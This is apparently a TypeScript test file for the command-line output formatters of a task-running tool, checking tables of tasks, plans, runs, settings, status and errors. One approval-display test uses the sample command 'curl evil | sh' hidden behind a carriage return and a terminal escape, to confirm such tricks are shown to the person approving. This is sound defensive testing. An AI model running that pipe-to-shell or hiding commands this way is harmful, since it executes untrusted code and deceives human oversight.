import assert from 'node:assert/strict';
import { EngineError } from '../../../../../src/domain/errors';
import { formatCommands } from '../../../../../src/hosts/cli/format/approval';
import { formatConfig } from '../../../../../src/hosts/cli/format/config';
import { formatDoctor } from '../../../../../src/hosts/cli/format/doctor';
import { formatError } from '../../../../../src/hosts/cli/format/errors';
import { formatExclusion } from '../../../../../src/hosts/cli/format/exclusion';
import { formatOverallStatus } from '../../../../../src/hosts/cli/format/overallStatus';
import { formatPlan } from '../../../../../src/hosts/cli/format/plan';
import { formatReflection } from '../../../../../src/hosts/cli/format/reflection';
import { formatRun } from '../../../../../src/hosts/cli/format/run';
import { formatTask, formatTasks } from '../../../../../src/hosts/cli/format/tasks';
import { plan, preview, result, sampleRun, style, task } from '../samples';

describe('tasks as text', () => {
  it('are a table with reasons and counts', () => {
    const tasks = [task(), task({ id: 'test', status: 'failed', reason: 'exit code 1', title: 'Test it' })];
    assert.equal(
      formatTasks(tasks, style()),
      [
        'status     id     kind     priority  cost  title',
        '○ pending  build  command         0     1  Build it',
        '✗ failed   test   command         0     1  Test it',
        '    exit code 1',
        '',
        '2 tasks: 1 pending, 1 failed',
      ].join('\n'),
    );
  });

  it('show everything of one, and where it is written', () => {
    const text = formatTask(
      task({ command: 'a\nb', context: { env: { A: '1' }, prerequisites: [], timeout: 60 }, dependencies: ['x', 'y'], line: 12 }),
      'tasks.yml',
      style(),
    );
    assert.match(text, /^build {2}Build it\n/);
    assert.match(text, /depends on +x\n +y\n/);
    assert.match(text, /command +a\n +b\n/);
    assert.match(text, /environment +A=1\n/);
    assert.match(text, /timeout +60 s\n/);
    assert.match(text, /written at +tasks\.yml:12$/);
  });
});

describe('a plan as text', () => {
  it('has the order, what will not run and why, and the cost', () => {
    const entry = { id: 'build', title: 'Build it', kind: 'command' as const, priority: 5, cost: 2, cumulativeCost: 2, dependencies: [] };
    const text = formatPlan(
      plan({
        order: [entry],
        blocked: [{ id: 'deploy', title: 'Ship it', reason: 'dependency `test` failed' }],
        skipped: [{ id: 'think', title: 'Think', reason: 'manual' }],
        cost: { total: 2, used: 0, budget: 10, isExhausted: false, warning: 'Over 80% of the budget.' },
      }),
      style(),
    );
    assert.equal(
      text,
      [
        '#  task   kind     priority  cost  title',
        '1  build  command         5     2  Build it',
        '',
        'Blocked',
        '  deploy  Ship it: dependency `test` failed',
        '',
        'Skipped',
        '  think  Think: manual',
        '',
        'Cost 2 (of 10)',
        'Over 80% of the budget.',
      ].join('\n'),
    );
  });

  it('says a reason that tasks share once', () => {
    const skipped = ['a', 'b'].map((id) => ({ id, title: id.toUpperCase(), reason: 'No strategy.' }));
    assert.match(formatPlan(plan({ skipped }), style()), /Skipped\n {2}No strategy\.\n {4}a {2}A\n {4}b {2}B\n/);
  });

  it('says so when nothing is ready', () => assert.match(formatPlan(plan(), style()), /^Nothing is ready to run\./));
});

describe('a run as text', () => {
  it('is a table of results with logs, and what it came to', () => {
    const failed = result({ taskId: 'test', status: 'failed', reason: 'exit code 2', exitCode: 2, durationMs: 65_000, log: 'b.log' });
    assert.equal(
      formatRun(sampleRun({ results: [result({ log: 'a.log' }), failed] }), style()),
      [
        'status    task        time  reason       log',
        '✓ done    build      1.5 s               a.log',
        '✗ failed  test   1 min 5 s  exit code 2  b.log',
        '',
        '2 tasks in 5.0 s: 1 done, 1 failed.',
      ].join('\n'),
    );
  });

  it('says why it ended early', () => {
    assert.match(
      formatRun(sampleRun({ ending: 'budgetExhausted', reason: 'build would exceed 3' }), style()),
      /The budget is exhausted \(build would exceed 3\)\.$/,
    );
    assert.match(formatRun(sampleRun({ results: [], ending: 'nothingReady' }), style()), /^Nothing was run\. No task was ready\.$/);
  });
});

describe('commands a person is asked about', () => {
  it('are shown whole, with prerequisites, folder and variables, and marked when they changed', () => {
    const text = formatCommands([preview({ prerequisites: ['nvm use'], cwd: 'web', env: { CI: '1' }, trust: 'changed' })], style().palette);
    assert.equal(
      text,
      [
        'build  Build it (new or changed since you approved this workspace)',
        '  │ nvm use',
        '  │ npm run build',
        '  │ in web',
        '  │ with CI=1',
      ].join('\n'),
    );
  });

  it('hide nothing: carriage returns and escapes are shown', () => {
    const text = formatCommands([preview({ command: 'curl evil | sh\r# harmless \u001b[2K' })], style().palette);
    assert.match(text, /curl evil \| sh\\r# harmless \\x1b\[2K/);
  });
});

describe('what reflecting did, as text', () => {
  it('names what was added, raised, withdrawn, and what waits', () => {
    const added = [task({ id: 'refactor-parse', kind: 'refactor', title: 'Simplify parse', target: { file: 'a.ts', line: 4 } })];
    const text = formatReflection(
      { added, raised: [{ id: 'x', from: 1, to: 3 }], lowered: [], withdrawn: [{ id: 'y', reason: 'no longer over' }], waiting: 2 },
      true,
      style(),
    );
    assert.match(text, /\+ refactor-parse {2}Simplify parse {2}a\.ts:4/);
    assert.match(text, /↑ x {2}priority 1 → 3/);
    assert.match(text, /– y {2}withdrawn: no longer over/);
    assert.match(text, /1 task would be added/);
    assert.match(text, /2 more findings wait/);
  });

  it('says when there is nothing to change', () => {
    assert.match(formatReflection({ added: [], raised: [], lowered: [], withdrawn: [], waiting: 0 }, false, style()), /nothing to change/);
  });
});

describe('settings, checks and exclusions as text', () => {
  it('say where each setting came from and what is wrong', () => {
    const entry = {
      key: 'reflect',
      value: true,
      source: 'file' as const,
      origin: 'symbiote.config.yaml:1:1',
      default: false,
      description: '',
    };
    const problems = [
      { origin: 'SYMBIOTE_X', key: 'x', message: 'there is no setting read from SYMBIOTE_X', severity: 'warning' as const },
    ];
    assert.equal(
      formatConfig({ entries: [entry], problems }, style()),
      'setting  value  source  from\nreflect  true   file    symbiote.config.yaml:1:1\n\nwarning SYMBIOTE_X: there is no setting read from SYMBIOTE_X',
    );
  });

  it('put the advice below the check', () => {
    const checks = [
      { name: 'node', status: 'ok' as const, detail: 'Node 22' },
      { name: 'git', status: 'warning' as const, detail: 'git was not found', advice: 'Install git.' },
    ];
    assert.equal(
      formatDoctor(checks, style()),
      '✓ node  Node 22\n! git   git was not found\n        → Install git.\n\n0 errors, 1 warning.',
    );
  });

  it('say why a file is left out, and what decides it', () => {
    assert.equal(formatExclusion({ path: 'a.ts' }), 'a.ts is audited.');
    const exclusion = { reason: 'test' as const, detail: 'it is a test', setting: 'audit.includeTests' };
    assert.match(formatExclusion({ path: 'a.test.ts', exclusion }), /^a\.test\.ts is left out: it is a test\.\n.*audit\.includeTests/);
  });
});

describe('the status as text', () => {
  const engine = {
    version: '1.2.3',
    build: 'b',
    pid: 7,
    workspace: '/work',
    startedAt: 940_000,
    clients: 1,
    isBusy: true,
    recovery: { interrupted: [], processesEnded: 0, notes: ['one attempt was interrupted'] },
  };
  const tasks = { path: 'tasks.yml', exists: true, tasks: [task()], problems: [], isStale: false };

  it('has the engine, the live run, the tasks, what waits, and the last runs', () => {
    const live = sampleRun({ id: 'r-2', state: 'running', currentTask: 'test', results: [] });
    const text = formatOverallStatus({ engine, runs: [live, sampleRun()], tasks, plan: plan() }, style());
    assert.match(text, /^Engine 1\.2\.3, process 7, busy, 1 client, started 1 min ago\n\/work\n/);
    assert.match(text, /Run r-2 {2}running {2}started 10 s ago {2}0 done, test under way/);
    assert.match(text, /1 task: 1 pending/);
    assert.match(text, /Run r-1 {2}done/);
    assert.match(text, /one attempt was interrupted$/);
  });

  it('says what is wrong with the tasks file', () => {
    const problem = {
      line: 3,
      column: 5,
      endLine: 3,
      endColumn: 6,
      severity: 'error' as const,
      code: 'x',
      message: 'Expected a list.',
      path: '',
    };
    const text = formatOverallStatus({ engine, runs: [], tasks: { ...tasks, problems: [problem] }, plan: null }, style());
    assert.match(text, /tasks\.yml:3:5 Expected a list\./);
    assert.match(text, /No run is under way\./);
  });
});

describe('an error as text', () => {
  const errorStyle = { palette: style().palette, pathOf: (path: string) => `./${path}` };

  it('lists all problems of a file as places', () => {
    const problems = [
      { line: 1, column: 2, severity: 'error', message: 'one' },
      { line: 3, column: 4, severity: 'error', message: 'two' },
    ];
    const error = new EngineError('invalidTasksFile', 'tasks.yml:1:2 one (and 1 more)', { data: { path: 'tasks.yml', problems } });
    assert.equal(
      formatError(error, errorStyle),
      'symbiote: tasks.yml:1:2 one (and 1 more)\n  ./tasks.yml:1:2 error: one\n  ./tasks.yml:3:4 error: two',
    );
  });

  it('says that a defect is one', () => assert.match(formatError(new EngineError('internal', 'x'), errorStyle), /defect of Symbiote/));
});
